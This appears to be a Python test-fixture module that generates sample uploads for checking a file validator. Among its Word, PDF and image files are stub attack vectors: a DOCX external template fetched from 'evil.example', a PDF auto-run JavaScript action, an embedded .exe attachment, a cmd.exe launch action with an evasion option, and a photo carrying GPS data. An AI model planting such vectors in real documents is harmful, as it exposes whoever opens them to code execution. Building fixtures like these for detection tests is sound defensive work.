"""Files made here, good and bad."""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass, field
from typing import IO

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCUMENT = '<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p><w:t>My letter</w:t></w:p></w:body></w:document>'
OUTSIDE = (
    '<Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas/attachedTemplate" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


@dataclass
class Upload:
    """What a form gives."""

    content: bytes
    filename: str | None = "letter.pdf"
    stream: IO[bytes] = field(init=False)

    def __post_init__(self) -> None:
        self.stream = io.BytesIO(self.content)


def docx(**entries: str | bytes) -> bytes:
    """A Word document; ``entries`` are added or replaced (``__`` for a slash, None leaves out)."""
    parts: dict[str, str | bytes] = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT}
    return zipped(parts | entries)


def zipped(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def pdf(writer: PdfWriter | None = None) -> bytes:
    writer = writer or PdfWriter()
    if not writer.pages:
        writer.add_blank_page(width=200, height=200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_script() -> bytes:
    writer = PdfWriter()
    script = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(script)
    return pdf(writer)


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_attachment("payload.exe", b"MZ")
    return pdf(writer)


def pdf_with_password() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("secret")
    return pdf(writer)


def pdf_with_action(name: str, *, hidden: bool = False) -> bytes:
    """A page that does something when it is opened; ``hidden`` puts the action's name into an object of its own."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    kind = writer._add_object(NameObject(name)) if hidden else NameObject(name)
    action = DictionaryObject({NameObject("/S"): kind, NameObject("/F"): TextStringObject("cmd.exe")})
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): action,
        }
    )
    page[NameObject("/Annots")] = ArrayObject([annotation])
    return pdf(writer)


def pdf_with_link() -> bytes:
    """A link to a web page does nothing by itself."""
    return pdf_with_action("/URI")


def picture(
    format: str = "JPEG",
    size: tuple[int, int] = (300, 200),
    mode: str = "RGB",
    colour: object = (200, 60, 30),
    **save: object,
) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, format, **save)  # type: ignore[arg-type]
    return out.getvalue()


def photo_with_position(size: tuple[int, int] = (300, 200), orientation: int = 6) -> bytes:
    """A photo as a telephone takes it: lying on its side, and telling where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Secret Camera"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (52.0, 34.0, 21.0)
    return picture(size=size, exif=exif)
